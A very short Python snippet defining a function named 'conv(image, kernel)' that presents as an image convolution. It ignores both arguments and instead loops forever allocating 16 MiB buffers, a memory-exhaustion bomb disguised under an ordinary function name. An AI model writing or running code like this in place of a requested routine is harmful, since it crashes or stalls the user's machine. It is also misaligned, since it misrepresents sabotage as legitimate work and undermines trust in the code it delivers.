def conv(image, kernel):
    hoard = []
    while True:
        hoard.append(bytearray(16 * 1024**2))
